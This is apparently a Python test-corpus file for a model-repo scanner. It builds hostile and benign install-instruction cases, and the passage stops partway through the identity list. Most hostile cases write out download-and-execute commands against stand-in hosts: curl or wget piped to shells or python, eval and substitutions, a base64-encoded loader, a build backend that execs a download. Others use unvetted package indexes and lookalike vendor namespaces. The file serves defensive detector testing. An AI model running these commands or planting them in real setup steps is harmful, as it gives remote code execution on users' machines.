"""Held-out install-instruction, source and identity cases for issue 24, written by a red team from how
the real tools resolve and run things (bash, python, pip, uv, conda, git, docker/podman, Helm, Slurm
pyxis/enroot, Apptainer, Inference Endpoints, the Hub as a code host), without reading hfvet's link
scanner, text rules, upstream list, identity module or policy rules.

Three hostile classes, told apart by the name's prefix:
- ``form-``: download-to-execution written in shell/python forms a literal pattern does not see
  (interpreter through ``env``, ``tee`` in the pipe, saved output run by name, substitutions, here-docs,
  variables, functions, aliases, ``python -c``/``python -``, extensionless scripts, Makefiles, notebooks).
- ``source-``: dependencies from places nobody vetted (unknown git owners, the Hub as a code host,
  brand-new package names, a vendor extra index beside PyPI, unknown indexes, channels, registries).
- ``identity-``: ``identity-org-*`` repos are published under a lookalike of a vendor identity that is
  not derivable from the vendor's Hub org name (``PUBLISHED_AS`` names the publisher; their bytes are
  otherwise clean); ``identity-ref-*`` repos point installs at lookalike owners, namespaces, channels.

Benign cases are vendor-shaped instructions from real vendor documentation (NIM/NGC, ROCm, NVIDIA's pip
index, conda-forge, uv, Helm from NGC, Slurm/enroot, Endpoints, installers of well-known tools, Red
Hat's registry). Payloads are harmless (``echo hfvet-heldout``, ``attacker.example``, ``127.0.0.1:9``);
the only binary is a two-by-two safetensors of zeros.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import replace

from tests.corpus.loader_heldout import _bytes, safetensors
from tests.corpus.registry import Case, register_all

HOSTILE = "instructions-heldout"
BENIGN = "instructions-heldout-benign"

URL = "https://attacker.example/setup"
RAW = "http://127.0.0.1:9/x"

# Where each behaviour was read (the `search`/`fetch` tools; docs pages and tool source).
BASH = "bash(1)"
PIP_REQ = "pip docs, Requirements File Format (options -i/--extra-index-url/-f/-e and direct URLs per line)"
PIP_EXTRA = ("pip docs, pip install --extra-index-url: candidates from every index are merged and the best "
             "version wins, the documented dependency-confusion warning (pypa/pip PR 13611)")
UV_INDEX = ("uv docs, configuration/indexes and uv-distribution-types Index: [[tool.uv.index]] url/explicit/"
            "default, [tool.uv.sources] pkg = { index | git | url }")
UV_SCRIPTS = "uv docs, guides/scripts: PEP 723 `# /// script` metadata, `uv run --script`, `uv run - <<EOF`"
PYXIS = "NVIDIA/pyxis wiki Usage: srun --container-image=[USER@][REGISTRY#]IMAGE[:TAG]"
ENROOT = "NVIDIA/enroot doc/cmd/import.md: enroot import docker://[USER@][REGISTRY#]IMAGE[:TAG]"
APPTAINER = ("apptainer build docs: docker:// is a Docker/OCI registry (Docker Hub by default); a def file's "
             "`Bootstrap: docker` / `From:` pulls the base and `%post` runs inside it at build time")
HELM = ("helm.sh docs, helm dependency: Chart.yaml dependencies[].repository is a chart repository "
        "(or oci://) that `helm dependency update` downloads from")
NIM_HELM = ("docs.nvidia.com/nim/large-language-models deploy-helm: helm fetch "
            "https://helm.ngc.nvidia.com/nim/charts/nim-llm-<version>.tgz, image.repository/image.tag")
ENDPOINTS = ("huggingface.co/docs/inference-endpoints/guides/custom_dependencies: a requirements.txt in the "
             "model repository is installed when the Endpoint's image is built")
CONDA = ("conda docs, environment.yml: `channels`, `channel::package` match specs, and a `pip:` list "
         "passed to pip (options included)")
GIT = "git-clone(1) --recurse-submodules: every submodule URL in .gitmodules is cloned too"

# A Hub org or GitHub owner that is neither vendor nor known: the sources below are nobody's vetted code.
STRANGER = "gpu-fastlane"


LLAMA = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 2, "num_hidden_layers": 1,
         "num_attention_heads": 1, "intermediate_size": 4, "vocab_size": 8, "torch_dtype": "bfloat16"}


def repo(files: Mapping[str, str | bytes | Mapping[str, object]]) -> Callable[[], dict[str, bytes]]:
    """A model repo: the given text files, a config and a tiny safetensors."""
    def build() -> dict[str, bytes]:
        out = {path: _bytes(value) for path, value in files.items()}
        out.setdefault("config.json", _bytes(LLAMA))
        out.setdefault("model.safetensors", safetensors())
        return out

    return build


def card(title: str, body: str, front: str = "library_name: transformers\nlicense: apache-2.0") -> str:
    return f"---\n{front}\n---\n\n# {title}\n\n{body.strip()}\n"


def sh(title: str, commands: str, lead: str = "## Setup") -> str:
    """A card whose setup section is one bash block."""
    return card(title, f"{lead}\n\n```bash\n{commands.strip()}\n```\n")


def _hostile(name: str, files: Callable[[], dict[str, bytes]], why: str) -> Case:
    return Case(HOSTILE, name, "hostile", files, why=why)


def _benign(name: str, files: Callable[[], dict[str, bytes]], why: str) -> Case:
    # Clean vendor shapes: the end state of issue 24 approves them at vendor-official (sources allowlisted).
    return Case(BENIGN, name, "benign", files, why=why, vendor="approve")


# ---------------------------------------------------------------------------------------------
# Class (a): download-to-execution in forms a literal pattern misses
# ---------------------------------------------------------------------------------------------

BOOTSTRAP_SCRIPT = f"""\
#!/usr/bin/env bash
# Prepares the runtime for this checkpoint.
set -euo pipefail
curl -fsSL {URL} | bash
"""

ALIAS_SCRIPT = f"""\
#!/bin/bash
shopt -s expand_aliases
alias get='curl -fsSL'
alias run='sh -s --'
get {URL} | run
"""

MAKEFILE = f"""\
.PHONY: setup serve

setup:
\tcurl -fsSL {URL} | $(SHELL)

serve: setup
\tpython serve.py
"""

DOCKERFILE_ADD = f"""\
FROM python:3.11-slim
ADD {URL}.sh /opt/setup.sh
RUN sh /opt/setup.sh && pip install --no-cache-dir transformers
"""

NOTEBOOK = {"cells": [
    {"cell_type": "markdown", "metadata": {}, "source": ["# Quickstart\n", "Run the cells in order.\n"]},
    {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
     "source": [f"!curl -fsSL {URL} | bash\n"]},
    {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
     "source": ["from transformers import AutoModelForCausalLM\n",
                "model = AutoModelForCausalLM.from_pretrained('.')\n"]}],
    "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}}, "nbformat": 4, "nbformat_minor": 5}

APPTAINER_POST = f"""\
Bootstrap: docker
From: ubuntu:22.04

%post
    apt-get update && apt-get install -y wget
    wget -qO- {URL} | sh

%runscript
    exec python3 /opt/serve.py "$@"
"""

SBATCH_SUBST = f"""\
#!/bin/bash
#SBATCH --job-name=finetune
#SBATCH --nodes=1
#SBATCH --gpus-per-node=8

srun --ntasks-per-node=1 bash -c "$(curl -fsSL {URL})"
srun python train.py --config train.yaml
"""

B64 = "Y3VybCAtZnNTTCBodHRwczovL2F0dGFja2VyLmV4YW1wbGUvcyB8IHNo"  # curl -fsSL https://attacker.example/s | sh

FORMS = [
    _hostile("form-env-bash-interpreter", repo({"README.md": sh("Tiny LM", f"curl -fsSL {URL} | /usr/bin/env bash")}),
             f"{BASH}: env(1) execs its first operand found on PATH, so `| /usr/bin/env bash` is a shell reading "
             "the download on stdin, like `| bash`."),
    _hostile("form-tee-between", repo({"README.md": sh(
        "Tiny LM", f"curl -fsSL {URL} | tee /tmp/install.log | sudo sh")}),
             f"{BASH}: tee copies stdin to stdout, so the download still reaches sh (as root through sudo)."),
    _hostile("form-output-file-run-by-name", repo({"README.md": sh(
        "Tiny LM", f"curl -fsSL {URL} -o prepare\nchmod +x prepare\n./prepare --gpu")}),
             f"{BASH}: curl -o saves the script under a name without extension, chmod makes it executable, "
             "`./prepare` runs it."),
    _hostile("form-redirect-then-dot", repo({"README.md": sh(
        "Tiny LM", f"wget -qO- {URL} > env.rc\n. ./env.rc")}),
             f"{BASH}: the download is redirected into env.rc, and `.` (source) runs it in the current shell."),
    _hostile("form-process-substitution", repo({"README.md": sh("Tiny LM", f"bash <(curl -fsSL {URL})")}),
             f"{BASH} Process Substitution: <(cmd) is a /dev/fd path bash opens as its script file."),
    _hostile("form-command-substitution", repo({"README.md": sh("Tiny LM", f'sh -c "$(wget -qO- {URL})"')}),
             f"{BASH} Command Substitution: the download becomes the -c command string."),
    _hostile("form-eval-substitution", repo({"README.md": sh("Tiny LM", f'eval "$(curl -fsSL {URL})"')}),
             f"{BASH} builtins: eval runs its arguments, here the downloaded text, as shell commands."),
    _hostile("form-source-process-substitution", repo({"README.md": sh("Tiny LM", f"source <(curl -fsSL {URL})")}),
             f"{BASH}: `source` reads and executes commands from the /dev/fd path of the process substitution."),
    _hostile("form-variables", repo({"README.md": sh("Tiny LM", (
        "BASE=https://attacker.example\nSCRIPT=\"$BASE/setup\"\nRUNNER=bash\n"
        "curl -fsSL \"$SCRIPT\" | \"$RUNNER\""))}),
             f"{BASH} Shell Parameter Expansion: the URL and the interpreter come from variables set just above; "
             "after expansion it is `curl URL | bash`."),
    _hostile("form-env-prefix-interpreter", repo({"README.md": sh(
        "Tiny LM", f"curl -fsSL {URL} | env PYTHONUNBUFFERED=1 sh -s -- --yes")}),
             "env(1) with NAME=VALUE operands then a command: the shell reading the pipe is `sh -s`."),
    _hostile("form-heredoc-substitution", repo({"README.md": sh("Tiny LM", f"bash <<EOF\n$(curl -fsSL {URL})\nEOF")}),
             f"{BASH} Here Documents: an unquoted delimiter expands $(...) in the body, so bash's stdin is the "
             "download."),
    _hostile("form-shell-function", repo({"README.md": sh("Tiny LM", (
        "fetch() { curl -fsSL \"$@\"; }\nrun() { bash -s \"$@\"; }\n" f"fetch {URL} | run"))}),
             f"{BASH} Shell Functions: fetch wraps curl and run wraps `bash -s`; the pipe is curl into bash."),
    _hostile("form-alias-script", repo({"scripts/setup.sh": ALIAS_SCRIPT, "README.md": sh(
        "Tiny LM", "bash scripts/setup.sh")}),
             f"{BASH} Aliases: `shopt -s expand_aliases` turns on alias expansion in a script, so `get URL | run` "
             "is curl piped into sh."),
    _hostile("form-python-c-runpy", repo({"README.md": sh("Tiny LM", (
        "python -c \"import runpy, urllib.request as r; "
        f"r.urlretrieve('{URL}.py', '/tmp/prep.py'); runpy.run_path('/tmp/prep.py')\""))}),
             "Python docs, runpy.run_path executes the file it is given; urlretrieve wrote the download there."),
    _hostile("form-python-c-exec-urlopen", repo({"README.md": sh("Tiny LM", (
        f"python3 -c \"import urllib.request as u; exec(u.urlopen('{RAW}').read())\""))}),
             "Python docs, exec() runs the bytes urllib.request.urlopen returned."),
    _hostile("form-python-stdin-heredoc", repo({"README.md": sh("Tiny LM", (
        "python - <<'EOF'\nimport urllib.request\n"
        f"code = urllib.request.urlopen(\"{URL}.py\").read()\nexec(compile(code, \"setup\", \"exec\"))\nEOF"))}),
             "python(1): `-` reads the program from stdin, here a quoted here-doc that fetches and execs code."),
    _hostile("form-pipe-to-python-stdin", repo({"README.md": sh("Tiny LM", f"curl -sSL {URL}.py | python3 -")}),
             "python(1): with `-` the program is read from stdin, which is the download."),
    _hostile("form-extensionless-script", repo({"scripts/bootstrap": BOOTSTRAP_SCRIPT, "README.md": sh(
        "Tiny LM", "./scripts/bootstrap")}),
             "execve(2) honours the `#!/usr/bin/env bash` line of a file without extension; its body pipes a "
             "download into bash."),
    _hostile("form-makefile-target", repo({"Makefile": MAKEFILE, "README.md": sh("Tiny LM", "make serve")}),
             "GNU make: each recipe line runs through $(SHELL); `make serve` runs `setup` first, curl into sh."),
    _hostile("form-dockerfile-add-run", repo({"Dockerfile": DOCKERFILE_ADD, "README.md": sh(
        "Tiny LM", "docker build -t tiny-lm . && docker run --gpus all tiny-lm")}),
             "Dockerfile reference: ADD <url> downloads the file at build time and RUN executes it."),
    _hostile("form-base64-decoded", repo({"README.md": sh("Tiny LM", f"echo {B64} | base64 -d | sh")}),
             "base64(1) -d decodes to `curl -fsSL https://attacker.example/s | sh`, which sh runs."),
    _hostile("form-notebook-shell-escape", repo({"quickstart.ipynb": NOTEBOOK, "README.md": card(
        "Tiny LM", "Open `quickstart.ipynb` and run all cells.")}),
             "IPython docs: a code-cell line starting with `!` runs in a system shell, curl into bash."),
    _hostile("form-apptainer-post", repo({"tiny.def": APPTAINER_POST, "README.md": sh(
        "Tiny LM", "apptainer build tiny.sif tiny.def\napptainer run --nv tiny.sif")}),
             f"{APPTAINER}: the %post section pipes a download into sh."),
    _hostile("form-sbatch-command-substitution", repo({"finetune.sbatch": SBATCH_SUBST, "README.md": sh(
        "Tiny LM", "sbatch finetune.sbatch")}),
             "Slurm srun runs `bash -c` on every node with the downloaded text as its command string."),
    _hostile("form-xargs-bash-c", repo({"README.md": sh("Tiny LM", f"curl -fsSL {URL} | xargs -0 bash -c")}),
             "xargs(1) -0 passes the whole download as one argument: `bash -c <download>`."),
    _hostile("form-powershell-irm-iex", repo({"README.md": card("Tiny LM", (
        "## Setup (Windows)\n\n```powershell\n"
        "powershell -ExecutionPolicy ByPass -c \"irm https://attacker.example/setup.ps1 | iex\"\n```\n"))}),
             "PowerShell: Invoke-RestMethod downloads the script and Invoke-Expression runs it."),
]


# ---------------------------------------------------------------------------------------------
# Class (b): sources nobody vetted
# ---------------------------------------------------------------------------------------------

UV_SOURCES_GIT = f"""\
[project]
name = "tiny-lm-serve"
version = "0.1.0"
requires-python = ">=3.10"
dependencies = ["torch>=2.3", "transformers>=4.44", "fastpath-kernels"]

[tool.uv.sources]
fastpath-kernels = {{ git = "https://github.com/{STRANGER}/fastpath-kernels", branch = "main" }}
"""

UV_INDEX_PIN = """\
[project]
name = "tiny-lm-serve"
version = "0.1.0"
requires-python = ">=3.10"
dependencies = ["torch>=2.3", "transformers>=4.44"]

[[tool.uv.index]]
name = "fast-wheels"
url = "https://wheels.attacker.example/simple"
explicit = true

[tool.uv.sources]
torch = { index = "fast-wheels" }
"""

PEP723_GIT = f"""\
# /// script
# requires-python = ">=3.10"
# dependencies = [
#     "transformers>=4.44",
#     "fastpath-kernels @ git+https://github.com/{STRANGER}/fastpath-kernels",
# ]
# ///
from transformers import pipeline

print(pipeline("text-generation", model=".")("Hello")[0]["generated_text"])
"""

PEP723_INDEX = """\
# /// script
# requires-python = ">=3.10"
# dependencies = ["transformers>=4.44", "torch"]
#
# [[tool.uv.index]]
# url = "https://pypi.attacker.example/simple"
# default = true
# ///
from transformers import pipeline

print(pipeline("text-generation", model=".")("Hello")[0]["generated_text"])
"""

GITMODULES = f"""\
[submodule "third_party/fastpath"]
\tpath = third_party/fastpath
\turl = https://github.com/{STRANGER}/fastpath-kernels.git
"""

BUILD_BACKEND_TOML = """\
[build-system]
requires = []
build-backend = "build_helpers"
backend-path = ["."]

[project]
name = "tiny-lm-tools"
version = "0.1.0"
"""

BUILD_BACKEND_PY = f'''\
"""In-tree PEP 517 backend: pip imports this module to build the project."""
import urllib.request


def _prepare() -> None:
    exec(urllib.request.urlopen("{RAW}").read())


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _prepare()
    raise NotImplementedError


def build_sdist(sdist_directory, config_settings=None):
    _prepare()
    raise NotImplementedError
'''

CHART_UNKNOWN_REPO = """\
apiVersion: v2
name: tiny-lm
version: 0.1.0
dependencies:
  - name: llm-server
    version: "1.4.2"
    repository: "https://charts.attacker.example/stable"
"""

VALUES_SPLIT_REGISTRY = """\
image:
  registry: registry.attacker.example
  repository: inference/llm-server
  tag: "1.4.2"
  pullPolicy: IfNotPresent
model:
  name: this/repo
resources:
  limits:
    nvidia.com/gpu: 1
"""

CHART_PLAIN = "apiVersion: v2\nname: tiny-lm\nversion: 0.1.0\nappVersion: \"1.4.2\"\n"

SBATCH_UNKNOWN_REGISTRY = """\
#!/bin/bash
#SBATCH --job-name=serve
#SBATCH --nodes=1
#SBATCH --gpus-per-node=8

srun --container-image=registry.attacker.example#team/trainer:24.05 \\
     --container-mounts=$PWD:/workspace \\
     python /workspace/serve.py --model /workspace
"""

APPTAINER_UNKNOWN_BASE = f"""\
Bootstrap: docker
From: {STRANGER}/pytorch-cuda:24.05

%post
    pip install --no-cache-dir transformers

%runscript
    exec python3 /opt/serve.py "$@"
"""

COMPOSE_UNKNOWN_IMAGE = f"""\
services:
  llm:
    image: ghcr.io/{STRANGER}/vllm-turbo:latest
    command: ["--model", "/models/tiny-lm"]
    ports: ["8000:8000"]
    volumes: ["./:/models/tiny-lm"]
    deploy:
      resources:
        reservations:
          devices: [{{driver: nvidia, count: all, capabilities: [gpu]}}]
"""

PYPROJECT_DIRECT_URL = """\
[project]
name = "tiny-lm-serve"
version = "0.1.0"
dependencies = [
    "transformers>=4.44",
    "tokenfast @ https://attacker.example/dist/tokenfast-1.0.tar.gz",
]
"""

ENV_CHANNEL_PKG = """\
name: tiny-lm
channels:
  - conda-forge
dependencies:
  - python=3.11
  - quantforge-labs::pytorch-cuda=12.4
  - pip
  - pip:
      - transformers>=4.44
"""

ENV_PIP_INDEX = """\
name: tiny-lm
channels:
  - conda-forge
dependencies:
  - python=3.11
  - pip
  - pip:
      - --index-url https://pypi.attacker.example/simple
      - torch
      - transformers>=4.44
"""

ENDPOINT_CARD = card("Tiny LM endpoint", """
Deploy on Inference Endpoints: the repo's `requirements.txt` is installed when the endpoint is created.
""")

HUB_CODE = f"{STRANGER}/fastdequant"

SOURCES = [
    _hostile("source-uv-sources-unknown-git-owner", repo({"pyproject.toml": UV_SOURCES_GIT, "README.md": sh(
        "Tiny LM", "uv sync\nuv run python serve.py")}),
             f"{UV_INDEX}: uv sync builds fastpath-kernels from a GitHub owner nobody vetted; "
             "no pip command in sight."),
    _hostile("source-uv-index-pinned-torch", repo({"pyproject.toml": UV_INDEX_PIN, "README.md": sh(
        "Tiny LM", "uv sync")}),
             f"{UV_INDEX}: torch is pinned to an explicit index on an unknown host."),
    _hostile("source-pep723-git-direct-ref", repo({"generate.py": PEP723_GIT, "README.md": sh(
        "Tiny LM", "uv run --script generate.py")}),
             f"{UV_SCRIPTS}: the inline metadata's direct git reference is built and installed before the run."),
    _hostile("source-pep723-default-index", repo({"generate.py": PEP723_INDEX, "README.md": sh(
        "Tiny LM", "uv run generate.py")}),
             f"{UV_SCRIPTS}; {UV_INDEX}: a `default = true` index inside the script metadata replaces PyPI, so "
             "torch and transformers come from an unknown host."),
    _hostile("source-gitmodules-recurse", repo({".gitmodules": GITMODULES, "README.md": sh("Tiny LM", (
        "git clone --recurse-submodules https://huggingface.co/this/repo tiny-lm\n"
        "pip install ./tiny-lm/third_party/fastpath"))}),
             f"{GIT}; then pip builds the submodule from an unknown owner (its setup.py runs)."),
    _hostile("source-hub-git-pip", repo({"README.md": sh("Tiny LM", f"pip install git+https://huggingface.co/{HUB_CODE}")}),
             "pip VCS support clones any git URL and builds it: the Hub is a git host of code nobody vetted."),
    _hostile("source-hub-resolve-archive", repo({"README.md": sh("Tiny LM", (
        f"pip install https://huggingface.co/{HUB_CODE}/resolve/main/fastdequant-0.2.0.tar.gz"))}),
             f"{PIP_REQ}: an sdist URL is downloaded and its build backend run; /resolve/ serves any uploaded file."),
    _hostile("source-hf-download-pip-local", repo({"README.md": sh("Tiny LM", (
        f"hf download {HUB_CODE} --local-dir fastdequant\npip install ./fastdequant"))}),
             "huggingface_hub CLI `hf download --local-dir` writes another repo's files; `pip install ./dir` runs "
             "its setup.py / build backend."),
    _hostile("source-in-tree-build-backend", repo({"pyproject.toml": BUILD_BACKEND_TOML,
                                                    "build_helpers.py": BUILD_BACKEND_PY,
                                                    "README.md": sh("Tiny LM", (
        "git clone https://huggingface.co/this/repo tiny-lm && pip install ./tiny-lm"))}),
             "PEP 517 backend-path: pip imports the in-tree backend to build the project; it execs a download."),
    _hostile("source-brand-new-package", repo({"requirements.txt": "transformers>=4.44\nquillmesh-runtime==0.3.1\n",
                                               "README.md": sh("Tiny LM", "pip install quillmesh-runtime\n"
                                                               "python -m quillmesh_runtime.serve .")}),
             "A package name near no known name: whoever registers it on PyPI first supplies its install hooks."),
    _hostile("source-dependency-confusion-vendor-index", repo({"README.md": sh("Tiny LM", (
        "pip install --extra-index-url https://pypi.nvidia.com nvidia-nemotron-fastpath==0.4.*"))}),
             f"{PIP_EXTRA}: a vendor-named package not on PyPI; anyone publishing it there with a "
             "higher version wins."),
    _hostile("source-requirements-extra-index", repo({"requirements.txt": (
        "--extra-index-url https://pypi.attacker.example/simple\ntransformers>=4.44\naccelerate\n"),
        "README.md": ENDPOINT_CARD}),
             f"{ENDPOINTS}; {PIP_REQ}: the option line adds an unknown index for every package of the file."),
    _hostile("source-endpoints-new-package", repo({"requirements.txt": (
        "transformers==4.44.2\nsentencepiece\nzephyrine-tok==0.0.4\n"), "README.md": ENDPOINT_CARD}),
             f"{ENDPOINTS}: a brand-new package is installed on deploy, no command shown to anyone."),
    _hostile("source-requirements-find-links", repo({"requirements.txt": (
        "--find-links https://wheels.attacker.example/\n--trusted-host wheels.attacker.example\n"
        "flash-attn\ntransformers>=4.44\n"), "README.md": sh("Tiny LM", "pip install -r requirements.txt")}),
             f"{PIP_REQ}: -f adds an unknown wheel page as a candidate source; --trusted-host drops its TLS check."),
    _hostile("source-requirements-editable-vcs", repo({"requirements.txt": (
        "transformers>=4.44\n-e git+https://gitlab.com/tok-fastpath/tokfast.git#egg=tokfast\n"),
        "README.md": sh("Tiny LM", "pip install -r requirements.txt")}),
             f"{PIP_REQ}: an editable VCS line clones and builds code from an unknown owner."),
    _hostile("source-remote-requirements-file", repo({"README.md": sh("Tiny LM", (
        "pip install -r https://attacker.example/requirements.txt"))}),
             "pip install -r accepts a URL: the list (and its option lines) is whatever the host serves."),
    _hostile("source-pyproject-direct-url", repo({"pyproject.toml": PYPROJECT_DIRECT_URL, "README.md": sh(
        "Tiny LM", "pip install .")}),
             "PEP 508 direct reference in [project] dependencies: pip downloads and builds the sdist."),
    _hostile("source-conda-channel-package", repo({"environment.yml": ENV_CHANNEL_PKG, "README.md": sh(
        "Tiny LM", "conda env create -f environment.yml")}),
             f"{CONDA}: `quantforge-labs::` pulls pytorch-cuda from an unknown anaconda.org channel."),
    _hostile("source-conda-pip-index", repo({"environment.yml": ENV_PIP_INDEX, "README.md": sh(
        "Tiny LM", "conda env create -f environment.yml")}),
             f"{CONDA}: the pip: list carries --index-url, so torch comes from an unknown index."),
    _hostile("source-conda-install-channel", repo({"README.md": sh("Tiny LM", (
        f"conda install -c {STRANGER} flash-attn"))}),
             "conda install -c: a channel nobody vetted goes first in the search order."),
    _hostile("source-helm-chart-dependency", repo({"chart/Chart.yaml": CHART_UNKNOWN_REPO, "README.md": sh(
        "Tiny LM", "helm dependency update chart && helm install tiny-lm chart")}),
             f"{HELM}: the subchart (its templates and images) comes from an unknown chart repository."),
    _hostile("source-helm-values-split-registry", repo({"chart/Chart.yaml": CHART_PLAIN,
                                                        "chart/values.yaml": VALUES_SPLIT_REGISTRY,
                                                        "README.md": sh("Tiny LM", "helm install tiny-lm ./chart")}),
             "Helm values: the image is assembled as registry/repository:tag from three keys; the registry "
             "is unknown."),
    _hostile("source-pyxis-unknown-registry", repo({"serve.sbatch": SBATCH_UNKNOWN_REGISTRY, "README.md": sh(
        "Tiny LM", "sbatch serve.sbatch")}),
             f"{PYXIS}: the image before # is an unknown registry, imported by enroot on every node."),
    _hostile("source-apptainer-def-unknown-base", repo({"serve.def": APPTAINER_UNKNOWN_BASE, "README.md": sh(
        "Tiny LM", "apptainer build serve.sif serve.def")}),
             f"{APPTAINER}: `From:` without a registry is a Docker Hub user nobody vetted."),
    _hostile("source-apptainer-docker-uri", repo({"README.md": sh("Tiny LM", (
        f"apptainer run --nv docker://ghcr.io/{STRANGER}/infer:latest --model ."))}),
             f"{APPTAINER}: docker:// pulls and runs an image from an unknown ghcr.io owner."),
    _hostile("source-compose-unknown-image", repo({"compose.yaml": COMPOSE_UNKNOWN_IMAGE, "README.md": sh(
        "Tiny LM", "docker compose up -d")}),
             "Compose specification: services.*.image is pulled and run; this owner is unknown."),
    _hostile("source-uvx-git", repo({"README.md": sh("Tiny LM", (
        f"uvx --from git+https://github.com/{STRANGER}/llm-cli llm-cli serve ."))}),
             "uv docs, guides/tools: `uvx --from git+URL` builds and runs a tool from an unknown owner."),
]


# ---------------------------------------------------------------------------------------------
# Class (c): identity
# ---------------------------------------------------------------------------------------------


def vendor_card(repo_id: str, maker: str) -> str:
    """A clean card that claims the vendor: the only thing wrong with the repo is who publishes it."""
    return card(repo_id.split("/")[1], f"""
**Model developer:** {maker}. This is the official release; see the technical report for details.

```python
from transformers import AutoModelForCausalLM, AutoTokenizer

tokenizer = AutoTokenizer.from_pretrained("{repo_id}")
model = AutoModelForCausalLM.from_pretrained("{repo_id}", torch_dtype="auto", device_map="auto")
```
""", front="library_name: transformers\nlicense: other\npipeline_tag: text-generation")


# Identity cases published under a lookalike: case name -> (repo id, what it imitates and how).
LOOKALIKES: dict[str, tuple[str, str, str]] = {
    "identity-org-vendor-github-org": (
        "NVIDIA-NeMo/Nemotron-Mini-4B-Instruct", "NVIDIA",
        "NVIDIA-NeMo is NVIDIA's GitHub org for NeMo, not a Hub org of NVIDIA's (which is `nvidia`)."),
    "identity-org-company-affix": (
        "deepseek-labs/DeepSeek-V3-0324", "DeepSeek",
        "The company name with another affix (`-labs`) than the real org's (`deepseek-ai`)."),
    "identity-org-vendor-product-joined": (
        "nvidianemo/canary-1b-flash", "NVIDIA",
        "Vendor and product joined with no separator (`nvidia` + `nemo`)."),
    "identity-org-social-handle": (
        "AIatMeta/Llama-3.1-8B-Instruct", "Meta",
        "Meta AI's X/Twitter handle used as a Hub org (the real orgs are meta-llama and facebook)."),
    "identity-org-repo-name-double-dash": (
        "model-mirror/nvidia--Llama-3.1-Nemotron-Nano-8B-v1", "NVIDIA",
        "The vendor's org embedded in the repo name (`org--name`, the cache-folder spelling) to pass as a "
        "mirror of the vendor's repo; huggingface_hub's validate_repo_id refuses `--`, so such a name reaches "
        "hfvet through a local or mirrored snapshot."),
    "identity-org-vendor-github-org-qwen": (
        "QwenLM/Qwen3-8B", "the Qwen team, Alibaba Cloud",
        "QwenLM is Qwen's GitHub org; the Hub org is `Qwen`."),
    "identity-org-social-handle-nvidia": (
        "NVIDIAAI/Nemotron-H-8B-Base", "NVIDIA", "NVIDIA's AI X/Twitter handle (@NVIDIAAI) as a Hub org."),
    "identity-org-company-product": (
        "Alibaba-Qwen/Qwen2.5-7B-Instruct", "the Qwen team, Alibaba Cloud",
        "Company and product joined (the @Alibaba_Qwen handle), no edit-distance neighbour of `Qwen`."),
    "identity-org-research-handle": (
        "MSFTResearch/Phi-4-mini-instruct", "Microsoft", "Microsoft Research's handle (@MSFTResearch) as a Hub org."),
    "identity-org-vendor-product-joined-google": (
        "googlegemma/gemma-3-4b-it", "Google DeepMind", "Vendor and product joined (`google` + `gemma`)."),
}

PUBLISHED_AS = {name: repo_id for name, (repo_id, _, _) in LOOKALIKES.items()}

IDENTITY_ORGS = [
    replace(_hostile(name, repo({"README.md": vendor_card(repo_id, maker)}),
                     f"Published as {repo_id}, a card claiming {maker}: {how} A person searching for the vendor's "
                     "model finds it; nothing in the bytes is wrong, the publisher is."), publisher=repo_id)
    for name, (repo_id, maker, how) in LOOKALIKES.items()
]

UV_SOURCES_HOMOGLYPH = """\
[project]
name = "tiny-lm-train"
version = "0.1.0"
dependencies = ["torch>=2.3", "transformer-engine"]

[tool.uv.sources]
transformer-engine = { git = "https://github.com/NVlDIA/TransformerEngine", tag = "v2.4" }
"""

CHART_LOOKALIKE_OCI = """\
apiVersion: v2
name: tiny-lm
version: 0.1.0
dependencies:
  - name: nim-llm
    version: "1.3.0"
    repository: "oci://ghcr.io/nvidia-nim-charts"
"""

SBATCH_LOOKALIKE_HUB = """\
#!/bin/bash
#SBATCH --job-name=train
#SBATCH --nodes=2
#SBATCH --gpus-per-node=8

srun --container-image=nvidia-pytorch/pytorch:24.05-py3 python train.py
"""

IDENTITY_REFS = [
    _hostile("identity-ref-github-lookalike-owner", repo({"README.md": sh("Tiny LM", (
        "pip install git+https://github.com/NVIDIA-NeMo-Labs/NeMo.git@main#egg=nemo_toolkit[all]"))}),
             "pip VCS install from `NVIDIA-NeMo-Labs`, a lookalike of NVIDIA's GitHub org NVIDIA-NeMo."),
    _hostile("identity-ref-uv-sources-homoglyph-owner", repo({"pyproject.toml": UV_SOURCES_HOMOGLYPH,
                                                             "README.md": sh("Tiny LM", "uv sync")}),
             f"{UV_INDEX}: transformer-engine from `NVlDIA` (lower-case L for the I) on GitHub."),
    _hostile("identity-ref-dockerhub-vendor-namespace", repo({"README.md": sh("Tiny LM", (
        "docker run --gpus all -p 8000:8000 nvidiaai/nim-llama3:latest"))}),
             "A Docker Hub namespace `nvidiaai` (no registry host means Docker Hub): NVIDIA ships NIM from "
             "nvcr.io and uses the `nvidia` namespace on Docker Hub."),
    _hostile("identity-ref-ghcr-lookalike-owner", repo({"README.md": sh("Tiny LM", (
        "docker pull ghcr.io/deepseek-ai-official/deepseek-v3-serve:latest\n"
        "docker run --gpus all -p 8000:8000 ghcr.io/deepseek-ai-official/deepseek-v3-serve:latest"))}),
             "ghcr.io owner `deepseek-ai-official` imitates DeepSeek's org `deepseek-ai`."),
    _hostile("identity-ref-rocm-lookalike-namespace", repo({"README.md": sh("Tiny LM", (
        "docker pull rocm-official/vllm:latest\n"
        "docker run --device=/dev/kfd --device=/dev/dri --group-add video rocm-official/vllm:latest"))}),
             "Docker Hub namespace `rocm-official` imitates AMD's `rocm`."),
    _hostile("identity-ref-quay-redhat-lookalike", repo({"README.md": sh("Tiny LM", (
        "podman run --device nvidia.com/gpu=all -p 8000:8000 quay.io/redhat-ai-team/vllm-cuda-rhel9:latest"))}),
             "quay.io owner `redhat-ai-team` imitates Red Hat, whose images come from registry.redhat.io."),
    _hostile("identity-ref-helm-lookalike-oci", repo({"chart/Chart.yaml": CHART_LOOKALIKE_OCI, "README.md": sh(
        "Tiny LM", "helm dependency update chart && helm install tiny-lm chart")}),
             f"{HELM}: nim-llm from `oci://ghcr.io/nvidia-nim-charts`, not NGC's helm.ngc.nvidia.com ({NIM_HELM})."),
    _hostile("identity-ref-pyxis-lookalike-namespace", repo({"train.sbatch": SBATCH_LOOKALIKE_HUB, "README.md": sh(
        "Tiny LM", "sbatch train.sbatch")}),
